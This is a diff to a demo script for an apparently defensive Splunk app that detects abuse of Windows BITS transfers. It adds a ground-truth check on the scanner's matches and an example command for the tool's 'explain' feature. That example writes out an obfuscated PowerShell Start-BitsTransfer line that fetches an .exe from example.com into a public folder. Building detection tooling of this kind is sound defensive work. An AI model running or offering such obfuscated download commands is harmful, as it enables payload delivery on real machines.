@@ -24,12 +24,26 @@ echo "The stand-in for splunkd starts the packaged program, asks it with getinfo
 echo "needs, sends these in chunks, and lays the answers over its own rows."
 echo
 build/release/bin/search-head run --csv "$app/samples/process_events.csv" --chunk-rows 500 \
-  --columns _time,dest,process,bits_pattern --width "${COLUMNS:-160}" \
+  --columns dest,process,bits_direction,bits_risk_score,bits_obfuscation --width "${COLUMNS:-120}" \
   -- "$app/linux_x86_64/bin/bitsmatch"
+
+truth=$app/samples/process_events_truth.csv
+abuses=$(grep -c ',abuse,' "$truth")
+rollouts=$(grep -c ',software-rollout,' "$truth")
+matches=$("$app/linux_x86_64/bin/bitsmatch" scan --output json "$app/samples/process_events.csv" | wc -l)
+if ((matches != abuses + rollouts)); then
+  echo "demo.sh: $matches matches, where the samples hold $((abuses + rollouts)) transfers." >&2
+  exit 1
+fi
+echo
+echo "That is each of the $abuses abuses in the samples, and $rollouts transfers that are in order: a management"
+echo "agent fetches installers. An allow list makes such transfers score less."
 
 cat <<TEXT
 
 What to do next
   The package for Splunk is dist/bitsmatch.tgz (README.md, "Install").
   The same engine from a shell: $app/linux_x86_64/bin/bitsmatch scan $app/samples/sysmon.xml
+  What one command line hides and does: $app/linux_x86_64/bin/bitsmatch explain \\
+    'powershell -c "St\`Art-BitsT\`ransfer https://example.com/a.exe C:\Users\Public\a.exe"'
 TEXT
